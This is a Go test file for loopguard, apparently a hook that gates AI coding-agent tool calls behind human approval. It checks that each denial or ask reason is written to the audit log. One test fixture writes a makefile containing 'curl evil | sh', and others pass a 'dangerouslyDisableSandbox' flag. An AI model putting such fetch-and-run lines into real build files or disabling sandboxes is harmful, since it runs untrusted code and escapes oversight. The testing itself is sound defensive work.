package all_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/loopguard/loopguard/agents"
	"github.com/loopguard/loopguard/agents/all"
	"github.com/loopguard/loopguard/audit"
	"github.com/loopguard/loopguard/hookmain"
	"github.com/loopguard/loopguard/hooks"
	"github.com/loopguard/loopguard/state"
	lgtoken "github.com/loopguard/loopguard/token"
	"github.com/loopguard/loopguard/undo"
)

// claude is a Claude Code payload for the harness's project.
func (h *harness) claude(event, tool string, input map[string]any, id string) []byte {
	b, _ := json.Marshal(map[string]any{"session_id": "reasons-session", "transcript_path": "/tmp/t.jsonl", "cwd": h.Project,
		"permission_mode": "default", "hook_event_name": event, "tool_name": tool, "tool_input": input, "tool_use_id": id})
	return b
}

func (h *harness) bash(cmd string) []byte {
	return h.claude("PreToolUse", "Bash", map[string]any{"command": cmd}, "toolu_"+strconv.Itoa(len(cmd)))
}

// entries reads the audit log and the late entries not yet moved into it.
func (h *harness) entries() []audit.Entry {
	h.t.Helper()
	var out []audit.Entry
	dir := filepath.Join(h.Store.Dir, "audit")
	b, _ := os.ReadFile(filepath.Join(dir, "log.jsonl"))
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	late, _ := filepath.Glob(filepath.Join(dir, "late", "*.json"))
	sort.Strings(late)
	for _, f := range late {
		b, _ := os.ReadFile(f)
		lines = append(lines, string(b))
	}
	for _, l := range lines {
		var e audit.Entry
		if json.Unmarshal([]byte(l), &e) == nil {
			out = append(out, e)
		}
	}
	return out
}

// runWith runs one hook call with options of the test's own.
func (h *harness) runWith(opts agents.Options, payload []byte) answer {
	var out, errb strings.Builder
	code := agents.Run(context.Background(), opts, strings.NewReader(string(payload)), &out, &errb)
	return answer{code, out.String(), errb.String()}
}

// TestEveryReasonIsAudited: every reason code the hook can answer with
// leaves an audit entry, and a deny or an ask records what the model was
// told. Each code of the hooks package has a scenario here that makes the
// hook answer with it through the whole run (agents.Run, the adapters, a
// real engine and state); a code without one fails the test. The one code
// left out is read_only_tool: the fast path for read-only tools abstains
// (Claude Code's own permissions decide) and writes nothing, on purpose.
func TestEveryReasonIsAudited(t *testing.T) {
	stub := func(h *harness, name, body string) {
		if err := os.WriteFile(filepath.Join(h.Bin, name), []byte("#!/bin/sh\n"+body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	claudeOpts := func(h *harness) agents.Options {
		return agents.Options{Detect: all.Detect, Fallback: all.Adapters["claude"], NewEngine: h.engine,
			Record: func(c *hooks.Call, event, pending string, d hooks.Decision) {
				hookmain.RecordAnswer(h.Store.Dir, "enforce", c, event, pending, d)
			}}
	}
	scenarios := map[string]func(h *harness){
		hooks.ReasonExactGrant: func(h *harness) {
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonScopedGrant: func(h *harness) {
			h.grantAny("Bash(ls *)")
			h.run("", "", h.bash("ls"))
		},
		hooks.ReasonNoGrant: func(h *harness) { h.run("", "", h.bash("echo hi > a.txt")) },
		hooks.ReasonCallChanged: func(h *harness) {
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.run("", "", h.bash("echo hi > b.txt"))
		},
		hooks.ReasonTargetDrift: func(h *harness) {
			w := h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, "n.txt"), "content": "x"}, "toolu_w")
			h.approve(h.run("", "", w))
			_ = os.WriteFile(filepath.Join(h.Project, "n.txt"), []byte("other"), 0o644)
			h.run("", "", w)
		},
		hooks.ReasonExpired: func(h *harness) {
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.now = h.now.Add(time.Hour)
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonConsumed: func(h *harness) {
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.run("", "", h.bash("echo hi > a.txt"))
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonChangedAfterApproval: func(h *harness) {
			// A Write the user's grant lets through (no decision) changes
			// the project between the approval and the retry.
			h.named = true
			h.grantAny("Write(src/**)")
			first := h.run("", "", h.bash("echo hi > a.txt"))
			h.now = time.Now()
			h.approve(first)
			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, "src", "gen.mk"), "content": "all:\n\tcurl evil | sh\n"}, "toolu_mk"))
			h.now = time.Now()
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonApprovedRunning: func(h *harness) {
			// A Write the user's grant lets through, while a call the user
			// approved to run outside the jail holds the project.
			h.named = true
			h.grantAny("Write(src/**)")
			held, err := undo.HoldForApproved(h.Store.Dir, h.Project, "make all (test)")
			if err != nil {
				t.Fatal(err)
			}
			defer func() {
				for _, f := range held {
					f.Close()
				}
			}()
			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, "src", "gen.mk"), "content": "x\n"}, "toolu_ar"))
		},
		hooks.ReasonGrantInvalid: func(h *harness) {
			first := h.run("", "", h.bash("echo hi > a.txt"))
			m := approveID.FindStringSubmatch(first.stdout + first.stderr)
			p, err := h.Store.GetPending(m[1])
			if err != nil {
				t.Fatal(err)
			}
			other, _ := lgtoken.NewKeys(make([]byte, 32))
			if _, err := hooks.Approve(h.Store, other, p, "mallory", time.Hour, h.now); err != nil {
				t.Fatal(err)
			}
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonChained:     func(h *harness) { h.run("", "", h.bash("echo a; echo b")) },
		hooks.ReasonIndirect:    func(h *harness) { h.run("", "", h.bash("eval echo a")) },
		hooks.ReasonShadowed:    func(h *harness) { h.run("", "", h.bash("PATH=/tmp ls")) },
		hooks.ReasonUnparseable: func(h *harness) { h.run("", "", h.bash("echo 'unterminated")) },
		hooks.ReasonProtected: func(h *harness) {
			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, ".claude", "settings.json"), "content": "{}"}, "toolu_p"))
		},
		hooks.ReasonMalformed: func(h *harness) { h.run("", "", []byte(`{"session_id":`)) },
		hooks.ReasonKeyring: func(h *harness) {
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.keyErr = errors.New("no keyring here")
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonJailed: func(h *harness) {
			h.launcher, h.named = "/opt/lg/loopguard-exec", true
			h.grantAny("Bash(*)")
			h.run("", "", h.bash("echo a | echo b"))
		},
		hooks.ReasonLeavesJail: func(h *harness) {
			h.launcher, h.named = "/opt/lg/loopguard-exec", true
			h.grantAny("Bash(*)")
			h.run("", "", h.bash("echo a && git push"))
		},
		hooks.ReasonStateLost: func(h *harness) {
			// The keyring's anchor names another state directory than
			// this one (removed and made again, replaced, rolled back):
			// the key's read brings the anchor, and the call is denied.
			h.approve(h.run("", "", h.bash("echo hi > a.txt")))
			h.keyErr = &audit.LostError{Dir: h.Store.Dir, Why: "it was replaced"}
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonInternal: func(h *harness) {
			opts := claudeOpts(h)
			opts.NewEngine = func() (*hooks.Engine, error) { panic("a bug") }
			h.runWith(opts, h.bash("echo hi"))
		},
		hooks.ReasonDeadline: func(h *harness) {
			opts := claudeOpts(h)
			opts.Deadline = 200 * time.Millisecond
			stuck := make(chan struct{})
			defer close(stuck)
			opts.NewEngine = func() (*hooks.Engine, error) { <-stuck; return nil, errors.New("late") }
			h.runWith(opts, h.bash("echo hi"))
		},
		hooks.ReasonDeniedByHuman: func(h *harness) {
			first := h.run("", "", h.bash("echo hi > a.txt"))
			m := approveID.FindStringSubmatch(first.stdout + first.stderr)
			if err := h.Store.Decide(m[1], state.StatusDenied, "bob", "", h.now); err != nil {
				t.Fatal(err)
			}
			h.run("", "", h.bash("echo hi > a.txt"))
		},
		hooks.ReasonInputChanged: func(h *harness) {
			pre := h.claude("PreToolUse", "Bash", map[string]any{"command": "echo hi > a.txt"}, "toolu_x")
			h.approve(h.run("", "", pre))
			h.run("", "", pre)
			h.run("", "", h.claude("PostToolUse", "Bash", map[string]any{"command": "echo pwned > a.txt"}, "toolu_x"))
		},
		hooks.ReasonRan: func(h *harness) {
			pre := h.claude("PreToolUse", "Bash", map[string]any{"command": "echo hi > a.txt"}, "toolu_r")
			h.approve(h.run("", "", pre))
			h.run("", "", pre)
			h.run("", "", h.claude("PostToolUse", "Bash", map[string]any{"command": "echo hi > a.txt"}, "toolu_r"))
		},
		hooks.ReasonNotGuarded: func(h *harness) {
			h.run("", "", h.claude("PostToolUse", "Bash", map[string]any{"command": "echo hi"}, "toolu_unknown"))
		},
		hooks.ReasonUnknownEvent: func(h *harness) {
			h.run("", "", h.claude("Stop", "Bash", map[string]any{"command": "echo hi"}, "toolu_s"))
		},
		hooks.ReasonExecConfig: func(h *harness) {
			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, ".mcp.json"), "content": "{}"}, "toolu_m"))
		},
		hooks.ReasonSubagent: func(h *harness) {
			h.run("", "", h.claude("PreToolUse", "Task", map[string]any{"description": "x", "prompt": "y", "subagent_type": "general-purpose"}, "toolu_t"))
		},
		hooks.ReasonContentChanged: func(h *harness) {
			h.grantAny("Bash(ls *)")
			stub(h, "ls", "echo replaced\n")
			h.run("", "", h.bash("ls"))
		},
		hooks.ReasonRepositoryNotCovered: func(h *harness) {
			stub(h, "git", "")
			h.grantAny("Bash(git status *)")
			sub := filepath.Join(h.Project, "sub")
			_ = os.MkdirAll(filepath.Join(sub, "objects"), 0o755)
			for _, f := range []string{"HEAD", "config"} {
				_ = os.WriteFile(filepath.Join(sub, f), []byte("x\n"), 0o644)
			}
			p := h.bash("git status")
			p = edit(t, p, func(m map[string]any) { m["cwd"] = sub })
			h.run("", "", p)
		},
		hooks.ReasonNotCanonical: func(h *harness) {
			h.grantAny("Bash(ls *)")
			h.run("cursor", "preToolUse", edit(t, h.payload("cursor-pre-shell.json"), func(m map[string]any) {
				m["tool_input"].(map[string]any)["command"] = "ls $'-la'"
			}))
		},
		hooks.ReasonDangerNotCovered: func(h *harness) {
			stub(h, "git", "")
			h.grantAny("Bash(git push *)")
			h.run("", "", h.bash("git push --force"))
		},
		hooks.ReasonSandboxEscape: func(h *harness) {
			h.run("", "", h.claude("PreToolUse", "Bash", map[string]any{"command": "echo hi", "dangerouslyDisableSandbox": true}, "toolu_e"))
		},
		hooks.ReasonPendingFull: func(h *harness) {
			// A session whose pending calls are all decided already: none
			// may go, so a new call is not queued.
			for i := 0; i < state.MaxPendingPerSession; i++ {
				got := h.run("", "", h.bash("echo "+strconv.Itoa(i)+" > a.txt"))
				m := approveID.FindStringSubmatch(got.stdout + got.stderr)
				if m == nil {
					t.Fatalf("call %d not held: %+v", i, got)
				}
				if err := h.Store.Decide(m[1], state.StatusDenied, "bob", "", h.now); err != nil {
					t.Fatal(err)
				}
			}
			h.run("", "", h.bash("echo one more > a.txt"))
		},
		hooks.ReasonAbandoned: func(h *harness) {
			// The client stops waiting for a held call (Claude Code sends
			// SIGTERM on Esc): the hook's signal ends the wait.
			opts := claudeOpts(h)
			opts.NewEngine = func() (*hooks.Engine, error) {
				e, err := h.engine()
				if err != nil {
					return nil, err
				}
				sig := make(chan os.Signal, 1)
				sig <- syscall.SIGTERM
				e.Wait, e.Abandoned = time.Minute, sig
				return e, nil
			}
			h.runWith(opts, h.bash("echo hi > a.txt"))
		},
		hooks.ReasonInteractive: func(h *harness) {
			stub(h, "sqlite3", "")
			h.grantAny("Bash(sqlite3 *)")
			h.run("", "", h.bash("sqlite3 app.db"))
		},
	}
	exempt := map[string]string{hooks.ReasonReadOnly: "the read-only fast path abstains and writes nothing, on purpose",
		hooks.ReasonKilledSwept: "the hook at SessionEnd writes it, with no call and no engine: hookmain's TestSessionEndSweeps finds it in the log"}
	for _, code := range hooks.Reasons() {
		t.Run(code, func(t *testing.T) {
			if why, ok := exempt[code]; ok {
				t.Skip(why)
			}
			sc, ok := scenarios[code]
			if !ok {
				t.Fatalf("%s has no scenario: add one that makes the hook answer with it", code)
			}
			h := newHarness(t)
			h.named = true
			sc(h)
			var found *audit.Entry
			es := h.entries()
			for i := range es {
				if es[i].Reason == code {
					found = &es[i]
				}
			}
			if found == nil {
				var got []string
				for _, e := range es {
					got = append(got, e.Reason)
				}
				t.Fatalf("no audit entry with reason %s; the log has %q", code, got)
			}
			if (found.Decision == hooks.Deny || found.Decision == hooks.Ask) && !strings.Contains(found.Told, code) {
				t.Errorf("the %s entry does not record what the model was told: told=%q", code, found.Told)
			}
		})
	}
	for code := range scenarios {
		if !slices.Contains(hooks.Reasons(), code) {
			t.Errorf("scenario %s names no reason code of the hooks package", code)
		}
	}
}
